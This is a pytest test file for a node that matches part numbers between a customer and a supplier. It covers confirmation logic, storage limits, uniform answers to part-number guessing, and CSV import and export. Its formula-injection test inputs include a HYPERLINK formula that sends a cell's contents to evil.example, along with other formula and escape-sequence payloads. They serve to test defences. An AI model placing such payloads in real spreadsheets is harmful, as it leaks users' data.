"""Part numbers of two sides: proposed, confirmed, resolved; and nothing for who guesses."""

import asyncio
import csv
import io
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Literal

import pytest
import sqlalchemy
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from bcca_node.ledger.node import Node
from bcca_node.network.client import Fetcher
from bcca_node.partners import event, parts, sheet
from bcca_node.partners.event import Accepted, Pair, PartsEvent, new_id
from bcca_node.partners.parts import MAX_ASKED
from bcca_node.storage import outbox, partners
from bcca_node.storage import pairs as rows
from bcca_node.storage.partners import Part, Partner, PartnerRole, PartState
from bcca_protocol.errors import MalformedError, UnusableError
from bcca_protocol.keys import Algorithm, Role, SeedSigner

URN = "urn:bcca:case:t:P1"
OTHER = "urn:bcca:case:t:P2"


@dataclass(frozen=True)
class Sides:
    """A customer and a supplier, each a partner of the other; events go by hand."""

    customer: Node
    supplier: Node

    def partner(self, node: Node) -> Partner:
        """Return whom `node` deals with."""
        with node.database.read() as session:
            (only,) = partners.every(session)
        return only

    def carry(self) -> None:
        """Bring everything that waits to the other side."""
        for sender, taker in (
            (self.customer, self.supplier),
            (self.supplier, self.customer),
        ):
            with sender.database.write() as session:
                waiting = outbox.waiting_for(session, taker.origin, 100)
                for each in waiting:
                    outbox.settle(session, each.number, outbox.State.DELIVERED)
            for each in waiting:
                told = event.decode(each.body)
                assert isinstance(told, PartsEvent)
                with taker.database.write() as session:
                    parts.take(taker, session, sender.origin, told)

    def states(self, node: Node) -> list[tuple[str, str, PartState]]:
        with node.database.read() as session:
            found = partners.parts(session, self.partner(node).origin)
        return [(each.theirs, each.ours, each.state) for each in found]

    def resolved(self, part: str) -> str | None:
        with self.supplier.database.read() as session:
            return parts.resolve(session, self.customer.origin, part)

    def propose(self, *pairs: tuple[str, str]) -> None:
        """Let the customer propose pairs of the supplier's product and its own number."""
        parts.note(self.customer, self.partner(self.customer), pairs)
        parts.propose(self.customer, self.partner(self.customer))
        self.carry()


@pytest.fixture
def sides(new_node: Callable[..., Node]) -> Sides:
    both = Sides(customer=new_node("pack.example"), supplier=new_node("cathode.example"))
    for node, other, role in (
        (both.customer, both.supplier, PartnerRole.SUPPLIER),
        (both.supplier, both.customer, PartnerRole.CUSTOMER),
    ):
        known = Partner(
            origin=other.origin,
            name=other.origin,
            url=other.settings.url,
            log_key="",
            request_key=other.origin,
            seal_key="",
            roles=frozenset({role}),
            since=0,
        )
        with node.database.write() as session:
            partners.put(session, known)
    return both


def said(kind: Literal["proposed", "confirmed", "refused"], *pairs: tuple[str, str]) -> PartsEvent:
    told = tuple(Pair(mine=mine, yours=yours) for mine, yours in pairs)
    return PartsEvent(id=new_id(), at="2026-01-01T00:00:00Z", kind=kind, pairs=told)


def test_a_pair_counts_once_both_sides_have_said_so(sides: Sides) -> None:
    sides.propose((URN, "4711"))
    proposed = sides.resolved("4711")
    parts.confirm(sides.supplier, sides.partner(sides.supplier))
    sides.carry()

    assert proposed is None
    assert sides.resolved("4711") == URN
    assert sides.states(sides.customer) == [(URN, "4711", PartState.CONFIRMED)]
    assert sides.states(sides.supplier) == [("4711", URN, PartState.CONFIRMED)]


def test_a_pair_that_both_propose_is_confirmed(sides: Sides) -> None:
    parts.note(sides.customer, sides.partner(sides.customer), [(URN, "4711")])
    parts.note(sides.supplier, sides.partner(sides.supplier), [("4711", URN)])
    parts.propose(sides.customer, sides.partner(sides.customer))
    parts.propose(sides.supplier, sides.partner(sides.supplier))
    sides.carry()

    assert sides.resolved("4711") == URN
    assert sides.states(sides.customer) == [(URN, "4711", PartState.CONFIRMED)]


def test_what_is_refused_resolves_nothing_on_either_side(sides: Sides) -> None:
    sides.propose((URN, "4711"))
    parts.confirm(sides.supplier, sides.partner(sides.supplier))
    sides.carry()
    parts.refuse(sides.supplier, sides.partner(sides.supplier), "4711")
    sides.carry()

    assert sides.resolved("4711") is None
    assert sides.states(sides.customer) == [(URN, "4711", PartState.REFUSED)]


def test_a_number_that_would_be_two_products_is_not_confirmed(sides: Sides) -> None:
    sides.propose((URN, "4711"), (OTHER, "4711"))

    with pytest.raises(UnusableError, match="refuse one of them first"):
        parts.confirm(sides.supplier, sides.partner(sides.supplier))


def test_a_number_confirmed_for_two_products_resolves_to_neither(sides: Sides) -> None:
    both = [
        Part(partner="pack.example", theirs="4711", ours=each, state=PartState.CONFIRMED, changed=0)
        for each in (URN, OTHER)
    ]
    with sides.supplier.database.write() as session:
        rows.put(session, both)

    assert sides.resolved("4711") is None


def test_a_confirmation_of_what_nobody_proposed_confirms_nothing(sides: Sides) -> None:
    parts.note(sides.supplier, sides.partner(sides.supplier), [("4711", URN)])
    with sides.supplier.database.write() as session:
        parts.take(sides.supplier, session, "pack.example", said("confirmed", ("4711", URN)))
        parts.take(sides.supplier, session, "pack.example", said("confirmed", ("4712", OTHER)))

    assert sides.resolved("4711") is None
    assert sides.states(sides.supplier) == [("4711", URN, PartState.NOTED)]


def test_who_guesses_part_numbers_is_told_nothing_and_sees_nothing_happen(sides: Sides) -> None:
    parts.note(sides.supplier, sides.partner(sides.supplier), [("4711", URN)])
    with sides.supplier.database.write() as session:
        for kind in ("proposed", "confirmed", "refused"):
            for pair in (("4711", URN), ("4712", "urn:bcca:case:t:unknown"), ("\x1b", "x")):
                parts.take(sides.supplier, session, "pack.example", said(kind, pair))

    with sides.supplier.database.read() as session:
        assert outbox.waiting_for(session, "pack.example", 10) == []


def test_events_about_known_and_unknown_parts_are_answered_alike_over_http(
    served: Callable[..., Node], new_node: Callable[..., Node]
) -> None:
    supplier, thief = served("cathode.example"), new_node("pack.example")
    known = Partner(
        origin=thief.origin,
        name=thief.origin,
        url=thief.settings.url,
        log_key=thief.log_key.encode(),
        request_key=thief.keys.signer(Role.REQUEST).key.encode(),
        seal_key="",
        roles=frozenset({PartnerRole.CUSTOMER}),
        since=0,
    )
    with supplier.database.write() as session:
        partners.put(session, known)
    parts.note(supplier, known, [("4711", URN), ("4712", URN)])
    guesses: list[PartsEvent] = []
    for kind in ("proposed", "confirmed", "refused"):
        guesses += [said(kind, pair) for pair in (("4711", URN), ("4713", URN), ("4711", OTHER))]

    async def tell() -> list[tuple[int, str, bytes]]:
        signer = thief.keys.signer(Role.REQUEST)
        async with Fetcher({"127.0.0.1"}, signer=signer) as fetcher:
            answers = [
                await fetcher.post(
                    f"{supplier.settings.url}/events",
                    event.encode(each),
                    content_type="application/json",
                    limit=1_000,
                    audience=supplier.origin,
                )
                for each in guesses
            ]
        return [
            (answer.status, answer.content_type, answer.body.replace(each.id.encode(), b""))
            for answer, each in zip(answers, guesses, strict=True)
        ]

    answers = asyncio.run(tell())

    assert len(set(answers)) == 1
    assert answers[0][0] == 200


def test_one_partners_part_numbers_are_not_anothers(sides: Sides) -> None:
    sides.propose((URN, "4711"))
    parts.confirm(sides.supplier, sides.partner(sides.supplier))

    with sides.supplier.database.read() as session:
        assert parts.resolve(session, "thief.example", "4711") is None


def test_proposals_without_end_fill_no_disk(sides: Sides) -> None:
    known = [
        Part(partner="pack.example", theirs=f"n{n}", ours=URN, state=PartState.ASKED, changed=0)
        for n in range(MAX_ASKED)
    ]
    with sides.supplier.database.write() as session:
        session.connection().exec_driver_sql(
            "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < ?) "
            "INSERT INTO part SELECT 'pack.example', 'n' || i, ?, 'asked', 0 FROM n",
            (MAX_ASKED - 1, URN),
        )
        parts.take(sides.supplier, session, "pack.example", said("proposed", ("one more", URN)))
        count = rows.counts(session, "pack.example")[PartState.ASKED]

    assert count == len(known)


def test_a_partner_that_asks_and_takes_back_without_end_fills_no_disk(
    sides: Sides,
) -> None:
    for start in range(4):
        pairs = [(f"n{start}-{number}", URN) for number in range(event.MAX_PAIRS)]
        with sides.supplier.database.write() as session:
            parts.take(sides.supplier, session, "pack.example", said("proposed", *pairs))
            parts.take(sides.supplier, session, "pack.example", said("refused", *pairs))

    assert sides.states(sides.supplier) == []


def test_every_pair_of_a_partner_counts_whatever_was_said_of_it(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parts, "MAX_PARTS", 4)
    partner = sides.partner(sides.supplier)
    parts.note(sides.supplier, partner, [("noted", URN)])
    for round_of in "abc":
        pairs = [(f"{round_of}{number}", URN) for number in range(9)]
        with sides.supplier.database.write() as session:
            parts.take(sides.supplier, session, "pack.example", said("proposed", *pairs))
        assert len(sides.states(sides.supplier)) == 4
        parts.refuse(sides.supplier, partner)  # what is refused makes room, and does not pile up

    parts.note(sides.supplier, partner, [("one", URN), ("two", URN), ("three", URN)])
    assert len(sides.states(sides.supplier)) == 4
    with pytest.raises(UnusableError, match="4 pairs are here and 1 would come"):
        parts.note(sides.supplier, partner, [("four", URN)])


def test_an_event_full_of_part_numbers_costs_a_few_queries(sides: Sides) -> None:
    pairs = [(f"n{number}".ljust(200, "x"), URN) for number in range(event.MAX_PAIRS)]
    with sides.supplier.database.write() as session:
        asked: list[str] = []
        at = "before_cursor_execute"
        sqlalchemy.event.listen(
            session.connection(), at, lambda *told: asked.append(told[2]), named=False
        )
        for kind in ("proposed", "confirmed", "refused"):
            parts.take(sides.supplier, session, "pack.example", said(kind, *pairs))

    assert 0 < len(asked) < 20


def test_an_acceptance_and_an_event_bring_no_more_pairs_than_one_event_has() -> None:
    many = tuple(Pair(mine=str(number), yours=URN) for number in range(event.MAX_PAIRS + 1))
    key = SeedSigner(name="x.example", algorithm=Algorithm.ED25519, seed=bytes(32)).key.encode()
    full = Accepted(
        id=new_id(),
        at="2026-01-01T00:00:00Z",
        invitation=new_id(),
        origin="x.example",
        name="X",
        url="https://x.example",
        log_key=key,
        request_key=key,
        seal_key=key,
        parts=many[1:],
    )

    assert event.decode(event.encode(full)) == full
    for over in (
        structs.replace(full, parts=many),
        structs.replace(full, name="x" * 201),
        structs.replace(full, name=""),
        structs.replace(said("proposed"), pairs=many),
    ):
        with pytest.raises(MalformedError):
            event.decode(event.encode(over))


@pytest.mark.parametrize(
    ("theirs", "ours"),
    [("4711", "0815"), ("", URN), (" 4711", URN), ("a\x1b[2J", URN), ("47\u200b11", URN)],
)
def test_what_can_be_no_pair_is_not_noted(theirs: str, ours: str) -> None:
    with pytest.raises(UnusableError):
        parts.require_pair(theirs, ours)


@pytest.mark.parametrize(
    "content",
    [
        b"theirs,ours\n4711,%s\n",
        b"\xef\xbb\xbftheirs,ours\r\n4711,%s\r\n",
        b"Ours;Theirs;State\n%s;4711;confirmed\n",
        b'theirs,ours\n"4711",  %s  \n\n , \n',
    ],
)
def test_what_spreadsheets_write_is_read(content: bytes) -> None:
    found = sheet.read(content % URN.encode(), "parts.csv")

    assert found.pairs == (("4711", URN),)
    assert not found.is_gbk


def test_gbk_is_read_and_said_so() -> None:
    found = sheet.read(f"theirs,ours\n正极-1,{URN}\n".encode("gbk"), "parts.csv")

    assert found.pairs == (("正极-1", URN),)
    assert found.is_gbk


def test_everything_wrong_in_a_file_is_told_at_once_by_row() -> None:
    content = f"theirs,ours\n4711\n,{URN}\n4712,0815\n4713,{URN}\n".encode()

    with pytest.raises(UnusableError) as error:
        sheet.read(content, "parts.csv")
    said_lines = str(error.value).split("\n")
    assert [line.partition(":")[0] for line in said_lines] == [
        "parts.csv, row 2",
        "parts.csv, row 3, column theirs",
        "parts.csv, row 4",
    ]


@pytest.mark.parametrize(
    "content",
    [b"", b"a,b\n1,2\n", b"theirs,theirs,ours\n", b"\xff\xff\xff", b'theirs,ours\n"4711,x\n'],
)
def test_what_is_no_list_of_parts_is_refused_in_one_sentence(content: bytes) -> None:
    with pytest.raises(UnusableError, match=r"parts\.csv"):
        sheet.read(content, "parts.csv")


FORMULAS = ["=1+1", "+4711", "-4711", "@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x"]
HIDDEN = [
    "a;=1+1;",
    'a;=HYPERLINK("https://evil.example/?"&A1)',
    "a;  =1+1",
    'a";=1+1',
    'a;"=1+1;x',
    "a,-1",
    "a|@x",
    "a;\uff1d1+1",
]
PLAIN = ["'4711", "a,b", 'a"b', "a;'x", "''=1", "a;''=1", "a;'=1", '"=1', "5-4=1"]


@pytest.mark.parametrize("parted_by", [",", ";", "|"])
@pytest.mark.parametrize("number", [*FORMULAS, *HIDDEN])
def test_no_cell_is_a_formula_however_a_spreadsheet_parts_the_cells(
    number: str, parted_by: str
) -> None:
    one = Part(partner="x", theirs=number, ours=f"{URN};=1+1", state=PartState.ASKED, changed=0)
    written = sheet.write([one]).decode("utf-8-sig")

    for row in csv.reader(io.StringIO(written), delimiter=parted_by):
        for cell in row:
            assert not cell.strip(' "').startswith(
                ("=", "+", "-", "@", *"\uff1d\uff0b\uff0d\uff20")
            )


@pytest.mark.parametrize("number", [*FORMULAS, *HIDDEN, *PLAIN])
def test_a_cell_that_a_spreadsheet_would_run_is_shown_instead_and_read_back(number: str) -> None:
    one = Part(partner="x", theirs=number, ours=URN, state=PartState.CONFIRMED, changed=0)
    other = f"{URN};=1,'-2"
    written = sheet.write([one, replace(one, theirs="4711", ours=other)])

    assert sheet.read(written, "parts.csv").pairs == ((number, URN), ("4711", other))


@given(
    st.text(alphabet="'\",;|=+-@ a\uff1d", min_size=1, max_size=12).filter(lambda t: t == t.strip())
)
def test_every_part_number_comes_back_from_a_file(number: str) -> None:
    one = Part(partner="x", theirs=number, ours=URN, state=PartState.CONFIRMED, changed=0)

    assert sheet.read(sheet.write([one]), "parts.csv").pairs == ((number, URN),)
